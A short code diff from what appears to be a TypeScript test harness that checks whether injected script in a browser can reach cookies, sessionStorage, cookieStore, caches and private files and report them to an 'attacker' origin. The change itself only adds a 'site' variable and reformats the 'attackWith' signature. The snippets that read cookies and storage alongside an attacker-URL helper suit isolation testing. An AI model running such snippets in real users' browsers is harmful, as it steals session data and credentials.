@@ -17,7 +17,7 @@ const storage: Record<string, string> = {
 	sessionStorage: `return JSON.stringify(sessionStorage);`,
 	cookie: `return document.cookie;`,
 	cookieStore: `return JSON.stringify(await cookieStore.getAll());`,
-	caches: `const cache = await caches.open('seed'); return (await (await cache.match('/seed')).text());`,
+	caches: `const cache = await caches.open('seed'); return (await (await cache.match(site + '/seed')).text());`,
 	'private files': `const root = await navigator.storage.getDirectory();
 		return (await (await (await root.getFileHandle('seed.txt')).getFile()).text());`,
 	storageBuckets: `return JSON.stringify(await navigator.storageBuckets.keys());`,
@@ -96,13 +96,18 @@ const spoofing: Record<string, string> = {
 export const attempts = { storage, network, evaluation, spoofing };
 
 /** JavaScript that makes all attempts and calls `report` with the JSON of what each one gave. */
-export function attackWith(groups: readonly Record<string, string>[], { attacker, stun, site }: Targets, report: string): string {
+export function attackWith(
+	groups: readonly Record<string, string>[],
+	{ attacker, stun, site }: Targets,
+	report: string
+): string {
 	const entries = groups.flatMap((group) => Object.entries(group));
 	const list = entries.map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
 	return `{
 	const stun = ${JSON.stringify(stun)};
 	const there = (path) => ${JSON.stringify(attacker)} + '/' + path;
-	const here = (path) => ${JSON.stringify(site)} + '/${mark}-' + path;
+	const site = ${JSON.stringify(site)};
+	const here = (path) => site + '/${mark}-' + path;
 	const flip = (first, then) => { let turn = 0; return () => (turn++ === 0 ? first : then); };
 	const asked = (request) => new Promise((resolve, reject) => {
 		request.onsuccess = () => resolve(request.result);
